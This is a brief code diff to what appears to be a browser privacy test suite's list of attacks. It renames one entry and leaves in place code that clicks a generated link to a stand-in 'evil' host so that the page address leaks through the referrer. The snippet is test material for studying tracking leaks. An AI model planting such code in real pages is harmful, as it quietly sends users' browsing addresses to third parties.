@@ -102,7 +102,7 @@ export const ATTACKS: readonly Attack[] = [
     },
   },
   {
-    name: 'the address of this page told to the next one',
+    name: 'the address of this page passed to the next one',
     run: ({ evil }) => Object.assign(document.createElement('a'), { href: `${evil}/referrer` }).click(),
   },
   {
